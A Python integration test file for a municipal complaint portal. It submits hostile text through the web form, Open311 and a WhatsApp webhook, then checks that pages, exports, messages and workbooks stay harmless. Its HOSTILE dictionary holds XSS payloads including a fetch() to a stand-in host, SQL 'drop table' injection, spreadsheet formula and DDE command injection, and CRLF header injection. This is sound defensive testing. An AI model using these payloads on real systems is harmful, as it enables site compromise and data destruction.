"""Text that is script, SQL, a formula, a right-to-left override or a megabyte long, wherever the city shows anything.

Reports of which every free field is hostile come over the portal, Open311 and a webhook; the clerk decides them,
officers write as badly, the marts are built with them. Then every address of the portal is walked, for each of their
numbers, and every file and message that the city makes. Addresses are taken from the application: a page that is new is
walked too.
"""

import io
import json
import re
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import psycopg
import pytest
from fastapi import FastAPI
from fastapi.routing import _iter_routes_with_context
from openpyxl import load_workbook
from playwright.sync_api import Browser

from assets.city import city_folder, read_facts
from assets.clock import city_zone
from assets.reference import load_reference
from assets.reports.city_lists import CityLists
from assets.reports.language import language
from assets.reports.maps import city_map
from assets.reports.read import read_report
from assets.reports.render import render_mail, render_page
from assets.reports.view import compose
from assets.reports.workbook import workbook
from database.roles import portal_login
from portal.app import build_app
from portal.office.visits import COOKIE
from portal.open311.keys import make_key
from portal.settings import PortalSettings
from portal.tables import TABLES
from tests import served
from tests.integration.city_of_truth import AS_OF, dbt, rows
from tests.integration.desk_browser import act, at_desk
from tests.integration.desk_city import DeskCity
from tests.integration.hostile_page import MARK, TURNS, faults_of
from tests.integration.site import Site, publish_again
from tests.integration.test_clerk import Working, until
from tests.integration.test_lapor import hidden
from tests.integration.test_webhooks import BODY, SECRET, signed
from tests.integration.window import SIZES
from tests.served import HERE

ELSEWHERE = "http://192.0.2.1"
HOSTILE = {
    "script": f"<script>fetch('{ELSEWHERE}');alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)> {MARK}",
    "attribute": f"\" autofocus onfocus=alert(1) x=\"' onmouseover='alert(1)' {MARK}",
    "end of everything": f"</textarea></title></script></style>--></main></body>]]> {MARK} <base href={ELSEWHERE}>",
    "template": f"{{{{ 7*7 }}}} {{% raw %}} {{# %(name)s %s ${{7*7}} {MARK}",
    "SQL": f"'; drop table private.complaints; update ledger.complaints set decision = 'rejected'; -- {MARK}",
    "formula": f'=HYPERLINK("{ELSEWHERE}/{MARK}","klik")',
    "command": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    "override": f"\u202e{MARK}txt.exe\u2066\u200f",
    "link": f"javascript:alert(1)//{ELSEWHERE}/{MARK}",
    "controls": f"{MARK}\x00\x1b[31m\x07\x7f\r\n\r\nSet-Cookie: a=b\u2028\ufeff",
    "marks": MARK + "\u0301" * 3000,
    "long": MARK + "a" * 1_000_000,
}


@dataclass(frozen=True)
class Filed:
    """What was filed and decided."""

    city: DeskCity
    settings: Mapping[str, Any]
    http: httpx.Client
    numbers: tuple[str, ...]
    receipts: tuple[str, ...]
    desks: Mapping[str, httpx.Client]


@pytest.fixture(scope="module")
def city(city: DeskCity) -> DeskCity:
    with psycopg.connect(city.url) as connection:
        # What the city was given by hand stands in the way of what the clerk gives: ids, and numbers of its day.
        connection.execute(
            "select setval(pg_get_serial_sequence('raw.inbox', 'inbox_id'), max(inbox_id)) from raw.inbox"
        )
        for table in ("ledger.tracking_numbers", "raw.case_events"):
            connection.execute(
                f"update {table} set tracking_number = replace(tracking_number, %s, %s)",
                [served.number("2603"), served.number("2601")],
            )
    return city


@pytest.fixture(scope="module")
def filed(city: DeskCity, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Filed]:
    """Hostile reports, decided, worked on by hostile officers, and in the marts."""
    landing = tmp_path_factory.mktemp("landing")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("JSC_WHATSAPP_APP_SECRET", SECRET)
        settings = {
            "desk_database_url": city.desk,
            "evidence": landing / "evidence",
            "reports": 10_000,
            "lookups": 10**6,
        }
        with Site(portal_login(city.url, city_zone().key), **settings) as http:
            yield worked(city, settings, http, landing)


def worked(city: DeskCity, settings: Mapping[str, Any], http: httpx.Client, landing: Path) -> Filed:
    before = {row["tracking_number"] for row in rows(city.url, "select tracking_number from ledger.tracking_numbers")}
    with psycopg.connect(city.url) as connection:
        key = make_key(connection, "hostile")
    receipts = [*by_form(http), *by_open311(http, key)]
    pushed = by_webhook(http)
    assert len(receipts) > len(HOSTILE)
    assert pushed > len(HOSTILE) / 2

    def numbers() -> set[str]:
        return {row["tracking_number"] for row in rows(city.url, "select tracking_number from ledger.tracking_numbers")}

    with Working(city.url, landing, lambda: AS_OF):
        until(lambda: len(numbers() - before) >= len(receipts) + pushed)
    new = tuple(sorted(numbers() - before))
    desks = at_work(city, http, new)
    dbt(city.url, AS_OF, "run")
    publish_again(city.url)
    time.sleep(1.2)
    return Filed(city, settings, http, new, tuple(receipts), desks)


def by_form(http: httpx.Client) -> list[str]:
    """Receipts of what the portal's form took; whatever it does not take it refuses in a page."""
    found = []
    for what, text in HOSTILE.items():
        page = http.get("/lapor")
        fields = {
            "name": text[:100], "contact": text[:100], "text": f"Jalan berlubang {text}", "address": text[:300],
            "kelurahan": HERE.code, "category": "Jalan", "visibility": "public", "anyway": "1",
        }  # fmt: skip
        answer = http.post("/lapor", data={**hidden(page.text), **fields}, files=[("photo", ("", b""))])
        assert answer.status_code in ({400, 413, 422, 303} if what == "long" else {303}), (what, answer.status_code)
        if answer.status_code == 303:
            found.append(answer.headers["location"].rpartition("/")[2])
        else:
            assert not faults_of(answer), what
    return found


def by_open311(http: httpx.Client, key: str) -> list[str]:
    """Tokens of what Open311 took."""
    found = []
    for what, text in HOSTILE.items():
        form = {
            "api_key": key, "service_code": "jalan", "lat": str(HERE.latitude), "long": str(HERE.longitude),
            "address_string": text[:400], "description": text, "first_name": text[:90],
            "last_name": text[:90], "email": text[:400], "phone": text[:90],
            "device_id": text[:400], "account_id": text[:400],
            "media_url": f"{ELSEWHERE}/{quote(text[:200])}",
            "attribute[nama]": text[:400], "attribute[tempat]": text[:400], "attribute[visibilitas]": "public",
        }  # fmt: skip
        answer = http.post("/open311/v2/requests.json", data=form)
        assert answer.status_code == (400 if what == "long" else 200), (what, answer.text[:300])
        assert not faults_of(answer), what
        if answer.status_code == 200:
            found.append(answer.json()[0]["token"])
    return found


def by_webhook(http: httpx.Client) -> int:
    """How many deliveries the webhook took; each is one report."""
    taken = 0
    for number, (what, text) in enumerate(HOSTILE.items()):
        body = json.loads(BODY)
        value = body["entry"][0]["changes"][0]["value"]
        value["contacts"][0]["profile"]["name"] = text
        value["messages"][0] |= {
            "id": f"wamid.hostile.{number}",
            "text": {"body": f"Jalan rusak di kelurahan {HERE.name} {text}"},
        }
        sent = json.dumps(body).encode()
        answer = http.post("/webhooks/whatsapp", content=sent, headers=signed(sent))
        assert answer.status_code in (200, 413), what
        taken += answer.status_code == 200
    return taken


def at_work(city: DeskCity, http: httpx.Client, numbers: tuple[str, ...]) -> dict[str, httpx.Client]:
    """The desk of each number's holder, where each case was taken with a hostile note."""
    held = rows(
        city.url,
        "select distinct on (tracking_number) tracking_number, decision, skpd_code, kelurahan_code"
        " from ledger.complaints inner join ledger.tracking_numbers using (complaint_id)"
        " order by tracking_number, version desc",
    )
    desks: dict[tuple[str, str | None], httpx.Client] = {}
    found = {}
    texts = list(HOSTILE.values())
    for place, row in enumerate(
        one for one in held if one["tracking_number"] in numbers and one["decision"] == "accepted"
    ):
        area = row["kelurahan_code"] if row["skpd_code"] == "kelurahan" else None
        unit = (row["skpd_code"], area)
        if unit not in desks:
            desks[unit] = at_desk(http, city.arrive(f"petugas{len(desks)}", *unit))
        desk, number = desks[unit], row["tracking_number"]
        if desk.get(f"/petugas/kasus/{number}").status_code != 200:
            continue
        found[number] = desk
        text = texts[place % len(texts)]
        assert act(desk, number, "ambil", alasan=text[:2000]).status_code in (303, 422)
        refused = act(desk, number, "serahkan", alasan=text[:2000], kepada=text[:100])
        assert refused.status_code == 422
        assert not faults_of(refused), text[:60]
    assert len(found) > len(HOSTILE)
    return found


def addresses(app: FastAPI, filed: Filed) -> Iterator[str]:
    """Every address that is answered to GET, filled with what was filed; with each hostile text where one is typed."""
    # A page that is asked for by another name fails here: whoever adds it says by what.
    known: dict[str, tuple[str, ...]] = {
        "nomor": filed.numbers, "number": filed.numbers, "service_request_id": filed.numbers, "receipt": filed.receipts,
        "act": ("lengkapi", "belum-selesai", "saya-juga", "ya", "henti"), "kecamatan": (HERE.kecamatan_code,),
        "token": ("a" * 43,), "form": ("csv", "xlsx"), "photo": ("1",),
        "token_id": filed.receipts, "fmt": ("json", "xml"), "name": (*TABLES, "report", "work"),
        "area_code": (HERE.kecamatan_code, read_facts(city_folder()).code),
        "unit_kind": ("skpd", "kelurahan"), "service_code": ("jalan", "lainnya"), "channel": ("whatsapp",),
    }  # fmt: skip
    typed = [quote(text[:500]) for text in HOSTILE.values()]
    for route, context in _iter_routes_with_context(app.router.routes):
        path = context.path if context is not None else getattr(route, "path", None)
        methods = (context.methods if context is not None else getattr(route, "methods", None)) or set()
        if path is None or "GET" not in methods:
            continue
        names = re.findall(r"{(\w+)(?::\w+)?}", path)
        template = re.sub(r"{(\w+):\w+}", r"{\1}", path)
        for values in product(*(known[name] for name in names)):
            yield template.format(**dict(zip(names, values, strict=True)))
        # And with the text itself in its place, as somebody types it.
        for text in typed:
            if names:
                yield template.format(**{name: known[name][0] for name in names} | {names[0]: text})
            yield template.format(**{name: known[name][0] for name in names}) + (
                f"?nomor={text}&wilayah={text}&jenis={text}&tab={text}&pesan={text}&untuk={text}&kali=1&unit_kind={text}"
            )
    # Addresses that a browser takes for another host's, were they written into a page as they are.
    yield from (
        f"{language}/{start}192.0.2.1/{MARK}" for language in ("", "/en") for start in ("/", "%5C", "/%5C", "%09/")
    )


def test_every_address_is_walked_and_harmless(filed: Filed) -> None:
    app = build_app(PortalSettings(**filed.settings), "postgresql://portal@127.0.0.1:1/none", lambda: AS_OF)
    anybody, some_desk = filed.http, next(iter(filed.desks.values()))
    walked, harmful, seen_by_officers = 0, [], 0
    for address in dict.fromkeys(addresses(app, filed)):
        of_desk = "/petugas" in address
        number = next((one for one in filed.numbers if one in address), "")
        browser = filed.desks.get(number, some_desk) if of_desk else anybody
        answer = browser.get(address)
        walked += 1
        faults = faults_of(answer)
        echoed = MARK in address or of_desk
        if not echoed and MARK.encode() in answer.content:
            faults.append("shows what a reporter wrote")
        seen_by_officers += of_desk and MARK in answer.text
        if faults:
            harmful.append((address[:120], answer.status_code, faults[:3]))
    assert not harmful, (len(harmful), harmful[:20])
    assert walked > 500
    assert seen_by_officers > len(HOSTILE)


def test_the_database_is_as_it_was(filed: Filed) -> None:
    """No statement within a text was one."""
    kept = rows(filed.city.url, "select description from private.complaints where description like '%drop table%'")
    assert kept
    held = rows(
        filed.city.url,
        "select count(*) as rejected from ledger.complaints inner join ledger.tracking_numbers using (complaint_id)"
        f" where decision = 'rejected' and tracking_number = any(array{list(filed.numbers)})",
    )
    assert held[0]["rejected"] < len(filed.numbers)


def test_no_open_file_holds_a_word_of_theirs(filed: Filed) -> None:
    for name, form in product(TABLES, ("csv", "parquet", "geojson")):
        answer = filed.http.get(f"/data/{name}.{form}")
        assert answer.status_code == 200
        assert MARK.encode() not in answer.content, (name, form)
        assert not faults_of(answer), (name, form)


def test_what_reporters_are_told_is_plain(filed: Filed) -> None:
    told = rows(
        filed.city.url,
        "select body from ledger.messages inner join ledger.tracking_numbers using (complaint_id)"
        f" where tracking_number = any(array{list(filed.numbers)})",
    )
    assert len(told) >= len(HOSTILE)
    for message in told:
        assert MARK not in message["body"]
        assert not TURNS.search(message["body"])
        assert "\x00" not in message["body"]
        assert len(message["body"]) < 2_000


def test_the_report_s_page_mail_and_workbook_hold_nothing_of_theirs_and_compute_nothing(filed: Filed) -> None:
    with psycopg.connect(filed.city.url) as connection:
        report = read_report(connection, AS_OF, CityLists())
    view = compose(report, city_map(load_reference(city_folder()), None), language("id"))
    for text in (render_page(view), render_mail(view)):
        assert MARK not in text
    sheets = load_workbook(io.BytesIO(workbook(view)))
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 100
    assert not [cell for cell in cells if cell.data_type == "f" or MARK in str(cell.value)]


def listen(page: Any, base: str, wrong: list[str]) -> None:
    """Note what no page may do: open a dialog, complain, break, ask anybody else."""

    def said(dialog: Any) -> None:
        wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("dialog", said)
    page.on("console", lambda line: wrong.append(f"{page.url}: {line.text}") if line.type == "error" else None)
    page.on("pageerror", lambda error: wrong.append(f"{page.url}: {error}"))
    page.on("request", lambda asked: None if asked.url.startswith((base, "data:")) else wrong.append(asked.url))


def test_a_browser_runs_nothing_asks_nobody_else_and_complains_of_nothing(chromium: Browser, filed: Filed) -> None:
    base = f"{filed.http.base_url}".rstrip("/")
    wrong: list[str] = []
    for number, desk in [("", None), *filed.desks.items()]:
        context = chromium.new_context(viewport=SIZES["phone"])
        if desk is not None:
            context.add_cookies([{"name": COOKIE, "value": desk.cookies.get(COOKIE, domain=""), "url": base}])
        page = context.new_page()
        listen(page, base, wrong)
        paths = (
            [f"/petugas/kasus/{number}", "/petugas", f"/lacak/{number}"]
            if number
            else [f"/lacak?nomor={quote(text[:300])}" for text in HOSTILE.values()] + ["/data", "/macet", "/pilar"]
        )
        for path in paths:
            answer = page.goto(base + path)
            assert answer is not None
            if answer.status >= 400 and not path.startswith("/lacak?"):
                wrong.append(f"{path}: {answer.status}")
            # The page is as wide as the telephone, and what a reporter wrote moves nothing about.
            if page.evaluate("document.scrollingElement.scrollWidth") > SIZES["phone"]["width"]:
                wrong.append(f"{path} is {page.evaluate('document.scrollingElement.scrollWidth')} wide")
        context.close()
    told = [line for line in wrong if "status of 4" not in line]
    assert not told, told[:10]
